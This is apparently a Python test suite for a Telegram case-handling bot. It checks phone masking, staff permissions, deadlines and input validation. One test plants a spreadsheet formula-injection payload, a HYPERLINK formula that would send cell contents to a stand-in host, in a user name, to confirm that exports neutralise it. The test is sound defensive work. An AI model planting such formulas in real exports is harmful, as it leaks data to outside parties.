"""Edges of case handling: what must not leak, be lost, stall or crash."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from sqlmodel import Session, select

from bot.fake import FakeUser, make_jpeg
from knowledge.router import Router
from storage.db import make_engine
from storage.models import Actor, Case, CaseEvent, CaseStatus, StaffRole, utcnow
from tests.handlers.conftest import RIGHTS, Harness, harness_settings, running
from tests.handlers.test_casework import (
    COLLEAGUE,
    LEAD,
    _card,
    _case,
    _file_service_card,
    _prompted,
    _roster,
    _started_privately,
)
from tests.handlers.test_forms import NUMBER, _forms, fill, start
from tests.handlers.test_handoff import STORY
from tests.handlers.test_staff_commands import _command, _consult, _download, _xlsx_rows

PHONE = "13912345678"


async def _accepted_service_card(harness: Harness) -> tuple[str, dict]:  # type: ignore[type-arg]
    number = await _file_service_card(harness)
    card = _card(harness, RIGHTS, number)
    await harness.press_on(RIGHTS, card["message_id"], "受理")
    return number, card


async def test_a_reply_to_a_note_or_notice_never_reaches_the_member(harness: Harness) -> None:
    _, card = await _accepted_service_card(harness)
    await harness.press_on(RIGHTS, card["message_id"], "备注")
    await _prompted(harness, RIGHTS, f"会员电话 {PHONE}，怀疑材料不实")
    note = harness.last(RIGHTS)
    assert "怀疑材料不实" in note["text"] and PHONE not in note["text"], "notes are masked too"
    before = harness.texts(harness.member.id)
    answer = await harness.staff_reply(RIGHTS, note["message_id"], "同意，先别告诉会员")
    assert "不对应任何咨询" in answer["text"]
    assert harness.texts(harness.member.id) == before


async def test_numbers_in_free_text_and_comments_are_masked_for_the_group(
    harness: Harness,
) -> None:
    form = _forms(harness)["hardship_aid"]
    await start(harness, form)
    await fill(harness, form)
    await harness.press("提交")
    case = _case(harness)
    # A member types a phone into a free-text answer; staff see it masked on the card.
    with Session(harness.engine) as session:
        stored = session.get(Case, case.id)
        assert stored is not None and stored.answers is not None
        stored.answers = {**stored.answers, "description": f"请打我电话 {PHONE}"}
        session.add(stored)
        session.commit()
    card = _card(harness, RIGHTS, case.number or "")
    await harness.press_on(RIGHTS, card["message_id"], "受理")
    card = _card(harness, RIGHTS, case.number or "")
    assert "请打我电话 139" in card["text"] and PHONE not in card["text"]


async def test_exports_cannot_carry_formulas(harness: Harness) -> None:
    _started_privately(harness, harness.staffer)
    sly = FakeUser(id=711111, first_name='=HYPERLINK("https://x.example/?"&A3,"点我")')
    await harness.say(STORY, sly)
    await harness.press("转人工", sly)
    await _command(harness, RIGHTS, "/export")
    rows = await _xlsx_rows(harness, harness.fake.bot_messages(harness.staffer.id)[-2])
    member_cell = rows[1][rows[0].index("会员")]
    assert member_cell.startswith("'=HYPERLINK"), "shown as text, never run as a formula"
    csv_text = (await _download(harness, harness.last(harness.staffer.id))).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text


async def test_only_the_caseworker_or_a_lead_closes_or_moves_an_assigned_case(
    harness: Harness,
) -> None:
    _roster(harness, COLLEAGUE, "权益保障部", StaffRole.HANDLER)
    await harness.say(STORY)
    number = NUMBER.search((await harness.press("转人工"))["text"]).group()  # type: ignore[union-attr]
    card = _card(harness, RIGHTS, number)
    await harness.press_on(RIGHTS, card["message_id"], "受理")
    refused = await harness.staff_reply(RIGHTS, card["message_id"], "/close", user=COLLEAGUE)
    assert "测试干事 经办" in refused["text"]
    await harness.press_on(RIGHTS, card["message_id"], "转派", user=COLLEAGUE)
    assert "测试干事 经办" in harness.alerts()[-1]
    assert _case(harness, number).status is CaseStatus.ACCEPTED
    # A colleague may still answer the member.
    await harness.staff_reply(RIGHTS, card["message_id"], "我先帮您看看", user=COLLEAGUE)
    assert "我先帮您看看" in harness.last(harness.member.id)["text"]


async def test_reassigning_an_open_case_accepts_it_for_a_long_telegram_id(
    harness: Harness,
) -> None:
    newcomer = FakeUser(id=6123456789, first_name="新同事")  # a ten-digit Telegram id
    _roster(harness, LEAD, "权益保障部", StaffRole.LEAD)
    _roster(harness, newcomer, "权益保障部", StaffRole.HANDLER)
    number = await _file_service_card(harness)
    card = _card(harness, RIGHTS, number)
    await harness.press_on(RIGHTS, card["message_id"], "改派经办人", user=LEAD)
    await harness.press_on(RIGHTS, card["message_id"], "新同事", user=LEAD)
    case = _case(harness, number)
    assert case.assignee_telegram_id == newcomer.id and case.status is CaseStatus.ACCEPTED
    assert "已由权益保障部受理" in harness.last(harness.member.id)["text"]


async def test_a_long_history_fits_and_leaves_the_case_where_it_is(harness: Harness) -> None:
    number, _ = await _accepted_service_card(harness)
    with Session(harness.engine) as session:  # a case that went back and forth for weeks
        case = session.exec(select(Case).where(Case.number == number)).one()
        for index in range(45):
            session.add(
                CaseEvent(
                    case_id=case.id or 0,
                    actor=Actor.STAFF,
                    action="staff_reply",
                    detail={"by": "测试干事", "text": f"第{index}次答复：" + "详" * 190},
                )
            )
        session.commit()
    await _command(harness, RIGHTS, f"/case {number}")
    history = harness.last(RIGHTS)
    assert "办理记录" in history["text"] and len(history["text"]) <= 4096
    assert "更早的" in history["text"]
    assert _case(harness, number).staff_chat_id == RIGHTS


async def test_edits_do_not_count_as_new_cards(tmp_path: Path, router: Router) -> None:
    settings = harness_settings(tmp_path, cards_per_hour=2)
    async with running(settings, make_engine(settings.database_url), router) as harness:
        first = await _consult(harness, 791000)
        card = _card(harness, RIGHTS, first)
        await harness.press_on(RIGHTS, card["message_id"], "受理")
        await harness.staff_reply(RIGHTS, card["message_id"], "您好")
        second = await _consult(harness, 791001)
        assert not _case(harness, second).card_held, "two cards this hour, whatever the edits"
        third = await _consult(harness, 791002)
        assert _case(harness, third).card_held


async def test_a_staff_reply_elsewhere_does_not_take_over_a_form(harness: Harness) -> None:
    await harness.say(STORY)
    number = NUMBER.search((await harness.press("转人工"))["text"]).group()  # type: ignore[union-attr]
    await harness.press("结束人工咨询")
    number2 = await _file_service_card(harness)
    card = _card(harness, RIGHTS, number2)
    await harness.press_on(RIGHTS, card["message_id"], "受理")
    form = _forms(harness)["union_founding"]
    await start(harness, form)
    await harness.staff_reply(RIGHTS, card["message_id"], "请问您几点方便接电话？")
    asked = await fill(harness, form)
    assert asked["text"].startswith("请核对您的《"), "every answer went to the form"
    assert number != number2


async def test_a_question_after_rating_is_answered_not_kept_as_a_comment(
    harness: Harness,
) -> None:
    await harness.say(STORY)
    number = NUMBER.search((await harness.press("转人工"))["text"]).group()  # type: ignore[union-attr]
    card = _card(harness, RIGHTS, number)
    await harness.staff_reply(RIGHTS, card["message_id"], "已登记")
    await harness.staff_reply(RIGHTS, card["message_id"], "/close")
    await harness.press("满意")
    answer = await harness.say("会员卡怎么办理")
    assert "办理流程" in answer["text"]
    assert _case(harness, number).rating_comment is None


async def test_materials_pause_the_deadline_and_captions_reach_staff(harness: Harness) -> None:
    _started_privately(harness, harness.staffer)
    number, card = await _accepted_service_card(harness)
    due = _case(harness, number).due_at
    await harness.press_on(RIGHTS, card["message_id"], "补件")
    await _prompted(harness, RIGHTS, "请补充劳动合同")
    assert "暂停计时" in _card(harness, RIGHTS, number)["text"]
    with Session(harness.engine) as session:  # the member takes three working days
        case = session.exec(select(Case).where(Case.number == number)).one()
        case.waiting_since = utcnow() - timedelta(days=5)
        session.add(case)
        session.commit()
    await harness.process(
        harness.fake.user_message(
            harness.member,
            photo=make_jpeg(320, 240),
            caption=f"合同首页，电话{PHONE}",
            enqueue=False,
        )
    )
    notice = harness.last(RIGHTS)
    assert "合同首页" in notice["text"] and PHONE not in notice["text"]
    await harness.press("补齐了")
    later = _case(harness, number).due_at
    assert due is not None and later is not None and later > due
    assert (later - due).days >= 3
    # 补齐了 once more, after the case has ended, says so.
    await harness.press_on(RIGHTS, card["message_id"], "办结")
    await _prompted(harness, RIGHTS, "已办好")
    await harness.press("补齐了")
    assert "已经结束" in harness.texts(harness.member.id)[-1]


async def test_odd_staff_input_gets_an_answer_not_an_error(harness: Harness) -> None:
    _roster(harness, LEAD, "全部", StaffRole.ADMIN)
    for text, expected in (
        ("/stats ²天", "看不懂"),
        ("/stats 9999-12", "看不懂"),
        ("/stats 0001", "看不懂"),
        ("/staff remove --5", "用法"),
        ("/staff add ² 甲 组织部", "用法"),
        ("/cases 待补件 乱", "看不懂"),
    ):
        await _command(harness, RIGHTS, text, user=LEAD)
        assert expected in harness.last(RIGHTS)["text"], text
    await _command(harness, RIGHTS, "/cases", user=LEAD)
    listing = harness.last(RIGHTS)
    await harness.process(
        harness.fake.press_button(LEAD, RIGHTS, listing["message_id"], "sl:²:u....", enqueue=False)
    )
    await harness.process(
        harness.fake.press_button(LEAD, RIGHTS, listing["message_id"], "sl:1:zz", enqueue=False)
    )
    assert "过期" in harness.alerts()[-1]
